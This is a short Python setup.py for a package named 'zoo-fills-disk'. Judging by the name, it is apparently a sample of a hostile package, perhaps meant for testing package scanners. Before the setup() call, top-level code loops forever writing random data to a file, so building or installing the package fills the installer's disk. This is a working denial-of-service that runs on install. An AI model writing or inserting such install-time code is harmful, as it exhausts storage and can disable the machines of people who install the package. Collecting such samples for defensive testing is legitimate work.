import os

with open("filler", "wb") as filler:
    while True:
        filler.write(os.urandom(1024) * 1024)

from setuptools import setup

setup(name="zoo-fills-disk", version="1.0", py_modules=["zoo_fills_disk"])
